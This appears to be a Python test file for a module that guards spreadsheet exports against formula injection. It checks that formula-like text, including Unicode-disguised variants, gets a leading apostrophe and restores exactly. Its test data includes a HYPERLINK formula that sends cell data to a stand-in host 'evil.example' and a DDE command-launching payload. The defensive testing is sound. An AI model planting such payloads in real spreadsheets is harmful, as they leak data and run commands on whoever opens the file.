"""The one rule for text in spreadsheet cells: nothing is taken for a formula, all reads back."""

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from csp.spreadsheet_cells import (
    MAX_XLSX_CHARS,
    CsvWriter,
    cell_value,
    csv_row,
    neutralise,
    restore,
    xlsx_cell,
    xlsx_text,
)

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1, "Details")',
    "=1+1",
    "+1",
    "-2",
    "@SUM(A1)",
    "-",
    "=",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "=cmd|'/C calc'!A0",
]

# What a spreadsheet may trim or fold before it looks at the first character.
DISGUISED = [
    " =1+1",
    "   -2",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    "\u202e=1+1",  # right-to-left override
    "\x0b=1+1",  # vertical tab (Word's line break)
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",  # full-width plus
    "\uff0d2",  # full-width hyphen-minus
    "\uff20SUM(A1)",  # full-width commercial at
    "\ufe661+1",  # small equals sign
]

HARMLESS = [
    "",
    "Patrols every Friday",
    "1.1.1",
    "2016/17 Q1",
    "Essex Police – Emma Clark",
    "Q1-4",
    "a = b",
    "5,000 leaflets delivered",
    "\u2212 3",  # a real minus sign is not a formula in any spreadsheet
    "'Tis the season",
    "''",
    "'",
]


@pytest.mark.parametrize("text", FORMULAS + DISGUISED)
def test_text_that_looks_like_a_formula_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("text", ["'=1+1", "''=1+1", "' =1+1", "'-"])
def test_an_authors_own_apostrophes_before_a_formula_get_one_more(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", FORMULAS + DISGUISED + HARMLESS)
def test_restore_gives_back_exactly_what_was_neutralised(text):
    assert restore(neutralise(text)) == text


def test_restore_leaves_an_apostrophe_that_neutralise_did_not_write():
    assert restore("'Tis the season") == "'Tis the season"
    assert restore("'") == "'"
    # What Excel saves from a cell typed as '=1+1 is the text itself.
    assert restore("=1+1") == "=1+1"


@given(st.text())
def test_any_text_survives_the_round_trip(text):
    assert restore(neutralise(text)) == text


@given(st.text())
def test_no_neutralised_text_starts_like_a_formula(text):
    written = neutralise(text)
    first = written.lstrip()[:1]
    assert written[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "\0"}
    assert first not in {"=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"}


def test_numbers_stay_numbers_and_blanks_stay_blank():
    assert cell_value(-3) == -3
    assert cell_value(-2.5) == -2.5
    assert cell_value(None) is None
    assert csv_row(["-3", -3, "=1", None]) == ["'-3", -3, "'=1", None]


def test_the_csv_writer_neutralises_and_quotes_every_field():
    out = io.StringIO(newline="")
    CsvWriter(out).writerows([["=1+1", -3, "a;=b", None], ["plain"]])
    assert out.getvalue() == '"\'=1+1","-3","a;=b",""\r\n"plain"\r\n'


def xlsx_cells(*values):
    """The values written by ``xlsx_cell`` to a write-only sheet, read back as (type, value)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("S")
    sheet.append([xlsx_cell(sheet, value) for value in values])
    handle = io.BytesIO()
    workbook.save(handle)
    cells = next(load_workbook(io.BytesIO(handle.getvalue()))["S"].iter_rows())
    return [(cell.data_type, cell.value) for cell in cells]


def test_xlsx_text_is_always_a_string_cell_never_a_formula_or_error():
    assert xlsx_cells("=1+1", "#N/A", "#DIV/0!", "@SUM(A1)", "plain") == [
        ("s", "'=1+1"),
        ("s", "#N/A"),
        ("s", "#DIV/0!"),
        ("s", "'@SUM(A1)"),
        ("s", "plain"),
    ]


def test_xlsx_numbers_stay_numbers():
    assert xlsx_cells(-3, 2.5, "-3") == [("n", -3), ("n", 2.5), ("s", "'-3")]


def test_xlsx_text_with_characters_a_workbook_cannot_hold_is_written_without_them():
    # openpyxl refuses these outright: a progress text pasted from Word made the export a 500.
    assert xlsx_cells("line\x0bbreak", "bell\x07", "\x01=1+1") == [
        ("s", "line\nbreak"),
        ("s", "bell"),
        ("s", "'=1+1"),
    ]


def test_a_text_too_long_for_a_cell_keeps_its_apostrophe():
    text = "=" + "x" * MAX_XLSX_CHARS
    written = xlsx_text(text)
    assert len(written) == MAX_XLSX_CHARS
    assert written.startswith("'=")
    assert xlsx_cells(text) == [("s", written)]


def test_a_blank_text_is_an_empty_cell():
    assert xlsx_cells("", "x") == [("n", None), ("s", "x")]
